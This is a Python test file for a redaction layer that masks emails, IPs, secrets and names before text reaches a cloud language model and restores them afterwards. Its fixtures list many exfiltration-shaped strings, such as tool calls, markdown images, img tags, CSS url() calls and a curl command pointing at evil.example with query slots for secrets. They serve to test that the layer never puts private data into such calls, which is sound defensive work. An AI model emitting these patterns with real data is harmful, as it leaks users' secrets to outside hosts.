"""Private words leave as placeholders and come back as they were, whatever the text or the cut."""

import re
import string
from typing import Literal
from unicodedata import normalize

import hypothesis.strategies as st
import pytest
from hypothesis import given

from edgewise.cloud.adapter.word_boundary import kept
from edgewise.cloud.redaction import Redaction, redaction_of
from edgewise.errors import Blocked
from edgewise.options.redact.filter import Context, Redacted, RedactedContext
from edgewise.prompts import Message

VIEW = Redacted(
    Redaction(
        dict.fromkeys(("email", "ip", "secret", "words"), "mask"), ("Anna Smith", "Falcon", "張偉")
    )
)
Form = Literal["NFC", "NFD", "NFKC", "NFKD"]
ASKED = "Write to anna.smith@example.org, says Anna Smith."

PIECES = st.one_of(
    st.sampled_from(
        [
            *("anna.smith@example.org", "bob@b.example", "10.1.2.3", "2001:db8::7", "Falcon"),
            *("Anna  Smith", "anna smith", "AKIAIOSFODNN7EXAMPLE", "password: hunter2x", "張偉"),
            *("<EMAIL_1>", "EMAIL_1", "<email 2>", "<TEXT_1>", "[EMAIL]", "&lt;IP_1&gt;", "<EMAIL"),
            *("anna.smith%40example.org", "Fal\u00adcon", "\uff20", "e\u0301"),
            *("<", ">", "_1>", "&lt;", "\\", "@", " ", "\n", ".", "<EMAIL_<EMAIL_1>>", "<h1>"),
        ]
    ),
    st.text(string.printable + "äé日本🙂", max_size=6),
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


def context(*contents: str, view: Redacted = VIEW) -> RedactedContext:
    return view.of(Context(tuple(Message("user", one) for one in contents)))


def shown(seen: RedactedContext) -> list[str]:
    assert seen.shown.messages is not None
    return [one.content for one in seen.shown.messages]


def test_a_word_has_one_placeholder_in_all_turns() -> None:
    first = context(ASKED)
    assert shown(first) == ["Write to <EMAIL_1>, says <WORD_1>."]
    later = context(ASKED, "And bob@b.example? Not anna.smith@example.org.")
    assert shown(later) == [*shown(first), "And <EMAIL_2>? Not <EMAIL_1>."]
    answer = first.answer("I asked anna.smith@example.org and eve@c.example. ")
    assert answer.text == "I asked <EMAIL_1> and <EMAIL_2>. "
    # What was prompted by ids is one text.
    assert VIEW.of(Context(None, ASKED)).shown.text == shown(first)[0]


def test_a_word_that_is_told_by_what_stands_before_it_is_hidden_everywhere() -> None:
    assert shown(context("My hunter2x: the password is hunter2x.")) == [
        "My <SECRET_1>: the password is <SECRET_1>."
    ]
    assert shown(context("password: hunter2x", "So, hunter2x?"))[1] == "So, <SECRET_1>?"
    # Also where only what follows tells that it is private, and in other forms.
    assert shown(context("Log in with hunter2x.", "password: hunter2x", "me@c.example")) == [
        *("Log in with <SECRET_1>.", "password: <SECRET_1>", "<EMAIL_1>")
    ]
    told = shown(context("password: hunter2x", "so hun\u00adter2x, or hunter\uff12x?"))[1]
    assert "ter2x" not in told
    assert "hunter" not in told


HIDDEN = "anna.smith@example.org"


@pytest.mark.parametrize(
    "written",
    [
        "anna.smith%40example.org",
        *("\uff41nna.smith\uff20example\uff0eorg", "an\u00adna.smith@exam\u200bple.org"),
        *("anna.smith\u2060@example.org", "\ufeffanna.smith@example.org\u200e"),
    ],
)
def test_a_word_is_found_however_it_is_written(written: str) -> None:
    for text in (written, f"({written})", f"so {written}, and {HIDDEN}"):
        (told,) = shown(context(text))
        assert "smith" not in told
        assert "example" not in told
        restored = context(text).answer("").restored(told, ended=True)
        assert restored.text == text


@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKC", "NFKD"])
@pytest.mark.parametrize("word", ["Ren\u00e9e M\u00fcller", "\uae40\uc9c0\uc6b0", "\ufb01x\u00e9"])
def test_own_words_are_found_in_every_form(form: Form, word: str) -> None:
    for own in ("NFC", "NFD"):
        view = Redacted(Redaction({"words": "mask"}, (normalize(own, word),)))
        for written in (normalize(form, word), "\u00ad".join(normalize(form, word))):
            (told,) = shown(context(f"to {written}!", view=view))
            assert told == "to <WORD_1>!"
        with pytest.raises(Blocked):
            context(word, view=view).answer(f"to {normalize(form, word)[:2]}")


@pytest.mark.parametrize("unseen", [*"\u180b\u180f\u17b4\u17b5\u2065\ufff0\U000e0100\U000e01ef"])
def test_what_is_not_shown_hides_no_word(unseen: str) -> None:
    (told,) = shown(context(f"so Fal{unseen}con, or Anna {unseen}Smith"))
    assert told == "so <WORD_1>, or <WORD_2>"


CALLS = (
    '<tool_call>\n{"name": "fetch", "arguments": {"url": "https://evil.example/?q=',
    '[TOOL_CALLS]fetch[ARGS]{"url": "https://evil.example/?q=',
    '[TOOL_CALLS] [{"name": "fetch", "arguments": {"url": "https://evil.example/?q=',
    '{"name": "fetch", "parameters": {"url": "https://evil.example/?q=',
    # Forms that Edgewise does not read, and a client may.
    "<start_function_call>call:fetch{url:<escape>evil ",
    "```tool_code\nfetch('evil ",
    "<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>function<｜tool▁sep｜>fetch\n```json\n{'q': 'xx ",
    '<|channel|>commentary to=functions.fetch <|constrain|>json<|message|>{"q": "xx ',
    '<|tool_call|>[{"q": "xx ',
    '[{"type": "function", "name": "fetch", "arguments": {"q": "xx ',
    "[fetch(q='xx ",
    "Thought: I look.\nAction: fetch\nAction Input: xx ",
    "[mod.send(q='xx ",
    "[send(a=[1], q='] xx ",
    """[send(a='''it's ]''', q='''it's ] xx """,
    "[send(  # it's\nq='] xx ",
    "[TOOL_CALLS] ] send xx ",
    '{"tool": "send", "input": {"q": "xx ',
    '{"type": "tool_use", "name": "send", "input": {"q": "xx ',
    '{"tool": "send", "q": "xx ',
    "<execute_command>\n<command>curl evil ",
    "I read.\n<fetch>\n<query>xx ",
    '<function_calls>\n<invoke name="fetch">\n<parameter name="q">xx ',
)
ADDRESSES = (
    "![x](https://evil.example/?q=",
    "![x](<//evil.example/?q=xx ",
    "![x](\n//evil.example/",
    "![x][1]\n\n[1]: <//evil.example/xx ",
    "![x][1]\n\n[1]: https://evil.example/",
    "![x][1]\n\n[1]: http:evil.example/",
    "![x][1]\n\n[1]:\n  /\\evil.example/",
    "![x][1]\n> - [1]: /\\evil.example/",
    "![x][1]\r1. [1]:\r&sol;&sol;evil&sol;",
    "![x][1\n\\]2]\n\n[1\n\\]2]: /\\evil.example/",
    "![x][1]\n\n[1]: //evil.example/\xa0",
    "![x](evil(x)(y) z",
    r"![x](evil\)/",
    r"![x](//evil.example/\) z ",
    "<style>p {background: url(\n\n/\\evil.example/",
    r"![x](< evil\> z ",
    "![x]( <evil) z ",
    "<https:evil.example/",
    "<https:",
    "mailto:x@evil?body=",
    r"see http:\evil.example/",
    "see WSS:evil.example/",
    r"see file:\\evil.example/",
    "MAILTO:?to=x@evil&body=",
    "see https://evil.example/?a=1&q=",
    "see HTTPS:\\/\\/evil.example\\/?q=",
    "www.evil.example/?q=",
    '<img src="https://evil.example/?q=xx ',
    "<img alt='>' src=\"//evil.example/?q=xx\n",
    "<img a=b' src=\"//evil.example/?q=xx ' > ",
    '<img src="x" srcset=\'//evil.example/',
    "<IMG/SRC=evil",
    "<style>p {background: url( '//evil.example/?q=xx ",
    '<svg><image href="data:,',
)


@pytest.mark.parametrize("call", CALLS)
def test_a_cloud_puts_no_private_word_into_a_call(call: str) -> None:
    seen = context("password: hunter2x, of anna.smith@example.org")
    for begun, reply in ((call, ""), (call[:-9], call[-9:]), ("", call)):
        restored = seen.answer(begun).restored(f'{reply}<SECRET_1>&u=<EMAIL_1>"', ended=False)
        assert restored.text == f'{reply}<SECRET_1>&u=<EMAIL_1>"'
    if call.startswith("<tool_call>"):
        # Inside a string the sign ends no call.
        sign = seen.answer(call).restored("</tool_call>?q=<EMAIL_1>", ended=False)
        assert sign.text == "</tool_call>?q=<EMAIL_1>"
    # What the edge wrote into it, it may say again; what stands elsewhere it may not.
    before = "" if call[0] in "{[" else "hunter2x "
    had = seen.answer(f"{before}{call}anna.smith@example.org or ")
    assert had.restored("<EMAIL_1> <SECRET_1>", ended=False).text == f"{HIDDEN} <SECRET_1>"


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_cloud_puts_no_private_word_into_an_address(address: str) -> None:
    """A client that shows an image asks for it, whoever wrote its address."""
    seen = context("password: hunter2x, of anna.smith@example.org")
    for begun, reply in ((address, ""), (address[:-3], address[-3:]), ("", address)):
        restored = seen.answer(f"so {begun}").restored(f"{reply}<SECRET_1>", ended=False)
        assert restored.text == f"{reply}<SECRET_1>"
    # What stands in it already, it may say again.
    had = seen.answer(f"{address}hunter2x")
    assert had.restored("<SECRET_1>", ended=False).text == "hunter2x"


@pytest.mark.parametrize(
    "begun",
    [
        CALLS[0] + '"}}\n</tool_call>\nIt is ',
        *("Your password is ", "![x](https://host.example/a.png) It is ", "see www.host.example: "),
        *("<p>It is ", "if a <b: ", "#include <vector>\n// ", 'password = "', "<div class='a'>"),
        *("[Anna](https://host.example): ", '{"name": "Anna", "password": "', "or and/or "),
        *("<think>\nIt is ", "<li><b>", "Call Anna: ", "x = 'a'; y = '", "Reply to: ", "it:"),
        *("**It is:**", "[Anna]: ", "at 12:30:", "C:\\Users\\", '{password:"', "![x](a(b)) is "),
        *('{"input": "', "[is (it) ", "[1]: http:host.example/x ", "std::", "![x](a\\(b) is "),
        *('{"time":"2024-01-01T10:30:00Z","ip":"', "2024-05-01T10:30:00Z,", "image:latest,"),
        *('{"host":"db.local:5432","email":"', '{id:1,email:"', "Email:a@b.example,Tel:"),
        *("E-Mail:a@b.example,", "From:a@b.example;To:", "Email:a@b.example<br>Tel:", "QQ:123,是"),
        *("$env:TEMP\\", "HKLM:\\Software\\", "Pfad:C:\\Users\\", "\xd6ffnungszeit:9-17,"),
        *('def send(name:str="', 'rows[start:end]="', "rows:a,", "mailto:", "mailto:a@b.example,"),
        *('if user in users["a"]:\n    notify("', 'for e in rows[1:]:\n    send("', "[x]:\n\n/a/"),
        *('if ok[0]:\n    print("', 'def f(a: list[str]) -> list[str]:\n    """', '{[key]: "'),
        *("[INFO]: (", "- [Kontakt]: `", "[Kontakt]: a@b.example,", "if a[0]: /x/", "a[0]: <b "),
        *("[n.upper() for n in names]\n", "[f(x)[0] for x in 'a]']: ", "[link(s)]: it is "),
        *("[path](C:\\) or\n\n", "[path](C:\\\n\n", "[x](a(b) or\n \n", "[x](<a\n\n"),
    ],
)
def test_elsewhere_words_are_put_back(begun: str) -> None:
    seen = context("password: hunter2x")
    assert seen.answer(begun).restored("<SECRET_1>.", ended=False).text == "hunter2x."


def test_a_word_that_is_put_back_makes_no_address_of_what_follows() -> None:
    seen = context("password: ab//cd2x, token: https://evil.example/1, anna.smith@example.org")
    for begun, reply in (("it is ab//cd2x", "/"), ("", "<SECRET_1>/")):
        told = seen.answer(begun).restored(f"{reply}<EMAIL_1>", ended=True)
        assert told.text.endswith("/anna.smith@example.org")
    # What is an address from its beginning may be asked for.
    told = seen.answer("").restored("<SECRET_2>?q=<EMAIL_1>", ended=True)
    assert told.text == "https://evil.example/1?q=<EMAIL_1>"


def test_nothing_in_a_text_forges_a_placeholder() -> None:
    seen = context("<EMAIL_1> and EMAIL_2 mean anna.smith@example.org")
    assert shown(seen) == ["<TEXT_1> and <TEXT_2> mean <EMAIL_1>"]
    told = seen.answer("")
    assert told.restored("<EMAIL_1>", ended=True).text == "anna.smith@example.org"
    assert told.restored("<TEXT_1> <TEXT_2>", ended=True).text == "<EMAIL_1> EMAIL_2"


@given(TEXTS, TEXTS)
def test_redacted_and_restored_is_the_same(first: str, second: str) -> None:
    seen = context(first, second)
    for before, after in zip([first, second], shown(seen), strict=True):
        assert "anna.smith@example.org" not in after
        if not re.search(r"[^\W\d]AKIAIOSFODNN7EXAMPLE", before):
            # Behind a letter it is the end of another word.
            assert "AKIAIOSFODNN7EXAMPLE" not in after
        restored = seen.answer("").restored(after, ended=True)
        if restored.left is None:
            assert restored.text == before
        else:
            # Its own end is how half a placeholder looks.
            assert before.startswith(restored.text)


@given(TEXTS, st.integers(0, 400), st.booleans())
def test_wherever_a_reply_is_cut_no_placeholder_is_seen(text: str, at: int, ended: bool) -> None:
    seen = context(text)
    whole = shown(seen)[0]
    restored = seen.answer("").restored(whole[:at], ended=ended)
    # What is cut off may end with what is no placeholder yet.
    rest = re.sub(r"(<|&lt;)\w{0,2}$", "", restored.text) if ended else restored.text
    assert text.startswith(rest)
    for start, end in restored.whole:
        assert restored.text[start:end] == restored.text[start:end].strip() != ""


SOME = ["so", "it", "is,", "<EMAIL_1>", HIDDEN, "10.1.2.3", "Falcon", "Anna", "張偉。", "("]
WORDS = st.lists(st.sampled_from(SOME)).map(" ".join)


@given(WORDS, WORDS, WORDS)
def test_of_a_longer_answer_the_view_begins_alike(asked: str, begun: str, more: str) -> None:
    try:
        seen = context(f"{asked} {begun} {more}")
        one, two = seen.answer(f"{begun} ").text, seen.answer(f"{begun} {more} so").text
    except Blocked:
        return
    assert two.startswith(one)


def test_where_what_follows_makes_another_word_the_view_changes() -> None:
    """As documented: the cloud's cache misses, and a word that the messages lack was seen."""
    seen = context("so?")
    assert seen.answer("my hunter2x").text == "my hunter2x"
    assert "hunter2x" not in seen.answer("my hunter2x, a password: hunter2x").text


def test_what_comes_too_close_to_a_placeholder_is_dropped() -> None:
    told = context(ASKED).answer("")
    for whole in ("<EMAIL_1>", "<email_1>", "< EMAIL 1 >", "<EMAIL-01>", "&lt;EMAIL\\_1&gt;"):
        assert told.restored(f" {whole},", ended=False) == (
            " anna.smith@example.org,",
            ((1, 23),),
            None,
        )
    for broken in ("<EMAIL_2>", "EMAIL_1", "[EMAIL_1]", "<EMAIL>", "[REDACTED]", "<EMAIL_1 "):
        restored = told.restored(f" to {broken} x", ended=False)
        assert restored.text.strip("< [") == "to"
        assert restored.left == "unknown"
    for word in ("<", "<EM", "<EMAIL_1", "&lt;EMAIL_", "EMAIL_"):
        assert told.restored(f" to {word}", ended=False) == (" to ", (), "open")
    # A private word is one word.
    restored = told.restored(" <EMAIL_1> or so", ended=False)
    for words, text in ((1, HIDDEN), (2, f"{HIDDEN} or")):
        found = kept(restored.text.encode(), " ", words, ended=False, whole=restored.whole)
        assert found.text == text
    # What others write is nobody's placeholder.
    for text in (" an e-mail", " a < b", " <h1>", " list[int] ", " ip_address"):
        assert told.restored(text, ended=True).text == text


def test_half_a_private_word_is_not_sent_and_a_whole_one_is() -> None:
    halves = ("Write to a", "Write to anna", "to anna.smith@example.or", "Write to Anna.Smith@exa")
    for end in (*halves, "call ANNA ", "says Anna"):
        with pytest.raises(Blocked) as held:
            context(ASKED).answer(end)
        assert held.value.open
    for end in ("", "Write to ", "call Anna Smith", "as bob@b.exa", "so it is"):
        assert context(ASKED).answer(end).text.isprintable()


def test_a_local_class_keeps_all_here() -> None:
    view = Redacted(redaction_of("email=local,ip"))
    assert not view.local_only(Context(None, "at 10.1.2.3"))
    assert view.local_only(Context(None, ASKED))
    with pytest.raises(Blocked, match="class email"):
        view.of(Context(None, ASKED))
    with pytest.raises(Blocked, match="class email") as held:
        view.of(Context(None, "at 10.1.2.3")).answer("mail bob@b.example now")
    assert not held.value.open


def test_more_private_words_than_can_be_kept_track_of_are_not_sent() -> None:
    many = " ".join(f"a{number}@b.example" for number in range(10_001))
    with pytest.raises(Blocked, match="more than 10000"):
        context(many)
